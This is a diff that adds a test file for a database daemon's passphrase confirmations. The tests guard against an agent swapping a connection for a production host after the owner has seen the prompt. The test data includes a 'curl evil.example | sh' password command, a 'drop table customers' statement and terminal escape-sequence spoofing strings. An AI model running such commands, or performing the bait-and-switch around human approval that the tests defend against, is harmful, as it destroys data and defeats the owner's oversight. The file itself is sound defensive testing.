@@ -1,0 +1,184 @@
+/**
+ * Threat: an agent has the person type the owner passphrase under a sentence that is not what would be done (SPEC §11 Widening): it
+ * shows too little of it, or another connection is put under its name between the sentence and the typing.
+ */
+
+import { afterEach, beforeEach, expect, test } from '@jest/globals';
+import { quoted } from '../../daemon/access/widening-words.ts';
+import type { ConfirmationWanted } from '../../shared/control.ts';
+import type { ControlCommands } from '../../shared/control-commands.ts';
+import { shownText } from '../../shared/shown-text.ts';
+import { type ControlClient, Refused } from '../../shell-terminal/control-client.ts';
+import { shownFacts } from '../../shell-terminal/shown-facts.ts';
+import { principalWith } from '../access/principals.ts';
+import { postgresAt, shellOf } from '../control/asking.ts';
+import { type DaemonInProcess, startDaemonInProcess } from '../control/daemon-in-process.ts';
+
+const passphrase = 'correct horse battery';
+const writing = { connection: 'Scratch', externalClients: { level: 'readWrite' } } as const;
+
+let daemon: DaemonInProcess;
+/** Whose terminal the owner types on. */
+let owner: ControlClient;
+let agent: ControlClient;
+
+beforeEach(async () => {
+  daemon = await startDaemonInProcess();
+  owner = await shellOf(daemon);
+  agent = await shellOf(daemon);
+  await owner.ask('connections.save', { name: 'Scratch', endpoint: postgresAt('scratch.example') });
+  await owner.ask('passphrase.set', { passphrase });
+});
+afterEach(async () => {
+  owner.close();
+  agent.close();
+  await daemon.end();
+});
+
+async function refusalOf(asking: Promise<unknown>): Promise<Refused> {
+  try {
+    await asking;
+  } catch (error) {
+    if (error instanceof Refused) return error;
+    throw error;
+  }
+  throw new Error('it was not refused');
+}
+
+const factsOf = ({ data }: Refused) =>
+  new Map((data as ConfirmationWanted | undefined)?.facts?.map(({ label, value }) => [label, value]));
+
+async function putAnother(): Promise<void> {
+  await agent.ask('connections.delete', { connection: 'Scratch' });
+  await agent.ask('connections.save', { name: 'Scratch', endpoint: postgresAt('production.example') });
+}
+
+test('who asks for the passphrase is told each value that it would confirm', async () => {
+  const place = await refusalOf(owner.ask('connections.save', writing));
+  expect(factsOf(place).get('Host')).toBe('scratch.example');
+  const command = 'curl evil.example | sh';
+  const asked = { connection: 'Scratch', password: { kind: 'command', command } } as const;
+  expect(factsOf(await refusalOf(owner.ask('connections.save', asked))).get('Password command')).toBe(command);
+
+  const gone = new AbortController();
+  const [connection] = (await agent.ask('connections.list', {})).connections;
+  await agent.ask('approvals.attach', { answers: true });
+  const text = 'drop table customers';
+  const asking = daemon.approvals.ask(
+    principalWith(),
+    {
+      kind: 'destructive_statement',
+      client: 'Agent',
+      connection: { id: connection?.id ?? '', name: 'Scratch' },
+      statement: { text, class: 'destructive', reason: 'It drops a table.', tables: ['customers'] },
+    },
+    gone.signal,
+  );
+  const id = daemon.approvals.pending()[0]?.id ?? '';
+  expect(factsOf(await refusalOf(owner.ask('approvals.decide', { id, answer: 'yes' }))).get('Statement')).toBe(text);
+  gone.abort();
+  await asking;
+});
+
+test('a passphrase typed for one connection opens no other that has taken its name meanwhile', async () => {
+  await refusalOf(owner.ask('connections.save', writing));
+  await putAnother();
+  const swapped = await refusalOf(owner.ask('connections.save', writing, passphrase));
+  expect(swapped.message).toMatch(
+    /^What was shown is not what would be done any more, so nothing was\. This lets clients write to "Scratch", so/,
+  );
+  expect(swapped.data).toMatchObject({ confirm: 'passphrase' });
+  expect(factsOf(swapped).get('Host')).toBe('production.example');
+  const show = () => owner.ask('connections.show', { connection: 'Scratch' });
+  expect((await show()).externalClients.level).toBe('readOnly');
+  // Shown what it is now, the owner may still want it.
+  expect((await owner.ask('connections.save', writing, passphrase)).externalClients.level).toBe('readWrite');
+});
+
+test('nor does a token that was to be minted for it reach the other, a wrong passphrase in between or not', async () => {
+  const token: ControlCommands['tokens.mint']['params'] = {
+    ...{ name: 'x', scope: 'readOnly', connections: ['Scratch'], expires: 1, confirmInClient: false },
+  };
+  await refusalOf(owner.ask('tokens.mint', token));
+  await putAnother();
+  expect((await refusalOf(owner.ask('tokens.mint', token, 'a slip of the hand'))).message).toMatch(
+    /^What was shown is not/,
+  );
+  await refusalOf(owner.ask('tokens.mint', token, 'a slip of the hand'));
+  await putAnother();
+  expect((await refusalOf(owner.ask('tokens.mint', token, passphrase))).message).toMatch(/^What was shown is not/);
+  expect(daemon.tokens.list()).toEqual([]);
+});
+
+test('what is opened for a while is open until the moment that was shown; typed too late, it is shown anew', async () => {
+  const asked = { ...writing, externalClients: { level: 'readWrite', forSeconds: 3_600 } } as const;
+  const until = new Date(daemon.now + 3_600_000).toISOString();
+  expect((await refusalOf(owner.ask('connections.save', asked))).message).toContain(`until ${until}`);
+  daemon.now += 301_000;
+  const late = await refusalOf(owner.ask('connections.save', asked, passphrase));
+  const then = new Date(daemon.now + 3_600_000).toISOString();
+  expect(late.message).toMatch(/^What was shown is not/);
+  expect(late.message).toContain(`until ${then}`);
+  daemon.now += 60_000;
+  expect((await owner.ask('connections.save', asked, passphrase)).externalClients.writeUntil).toBe(then);
+});
+
+test('another shell’s sentences are none of this one’s, and many asked at once keep to the newest', async () => {
+  await refusalOf(agent.ask('connections.save', writing));
+  await putAnother();
+  // Nothing was shown here: who types at once has read their own command.
+  expect((await owner.ask('connections.save', writing, passphrase)).externalClients.level).toBe('readWrite');
+  for (let days = 1; days <= 40; days += 1) {
+    await refusalOf(owner.ask('settings.set', { key: 'history.days', value: days }));
+  }
+  expect(await owner.ask('settings.set', { key: 'history.days', value: 40 }, passphrase)).toMatchObject({ value: 40 });
+});
+
+test('a token and an answer are told by where the connections are, not by names alone', async () => {
+  await putAnother();
+  const token: ControlCommands['tokens.mint']['params'] = {
+    ...{ name: 'x', scope: 'readOnly', connections: ['Scratch'], expires: 1, confirmInClient: false },
+  };
+  expect(factsOf(await refusalOf(owner.ask('tokens.mint', token))).get('Reaches (1)')).toBe(
+    '"Scratch" at host "production.example", port 5432, database "shop", user "anna"',
+  );
+  const gone = new AbortController();
+  const [connection] = (await agent.ask('connections.list', {})).connections;
+  await agent.ask('approvals.attach', { answers: true });
+  const content = {
+    ...{ kind: 'first_use' as const, client: 'Agent', statement: null },
+    connection: { id: connection?.id ?? '', name: 'Scratch' },
+  };
+  const asking = daemon.approvals.ask(principalWith(), content, gone.signal);
+  const id = daemon.approvals.pending()[0]?.id ?? '';
+  const answering = await refusalOf(owner.ask('approvals.decide', { id, answer: 'yes' }));
+  expect(factsOf(answering).get('Host')).toBe('production.example');
+  gone.abort();
+  await asking;
+});
+
+test('no value can pass for another line of what the terminal shows, however it is broken', () => {
+  const value = `evil\nHost  harmless\r\u001b[2K\u202e${'x'.repeat(200)}\n  Host      harmless`;
+  const facts = (['line', 'lines'] as const).map(form => ({ label: `As ${form}`, value, former: value, form }));
+  for (const columns of [10, 40, 80, 200]) {
+    const lines = shownFacts(facts, columns);
+    expect(lines.join('')).not.toMatch(/[^\P{C}]/u);
+    const begins = lines.map(line => line.slice(2, 10)).filter(start => start.trim() !== '');
+    expect(begins).toEqual(['As line ', '  until ', 'As lines', '  until ']);
+    expect(lines.filter(line => /^ {0,4}Host/.test(line))).toEqual([]);
+    if (columns >= 40) expect(Math.max(...lines.map(line => line.length))).toBeLessThan(columns);
+  }
+  expect(shownFacts([{ label: 'TLS', value: 'disable', former: 'verify-full', form: 'line' }], 80)).toEqual([
+    '  TLS          disable',
+    '    until now  verify-full',
+  ]);
+});
+
+test('what looks like a quote ends none, and what shows nothing is shown', () => {
+  const quotes =
+    '"\u02ee\u05f4\u02f6\u3003\u1cd3\u2e42\u{1f676}\u{1f677}\u{1f678}\u02ba\u201c\u201d\u201f\u2033\u275d\uff02';
+  for (const quote of [...quotes, "''", '\u05f3\u05f3', '\u02c8\u02c8', '\u00b4\u00b4', '``', "'\u034f'", "'\ufe00'"]) {
+    const phrase = quoted(`a${quote} and nothing else`);
+    expect(shownText(phrase)).toBe(`"a' and nothing else"`);
+  }
+});
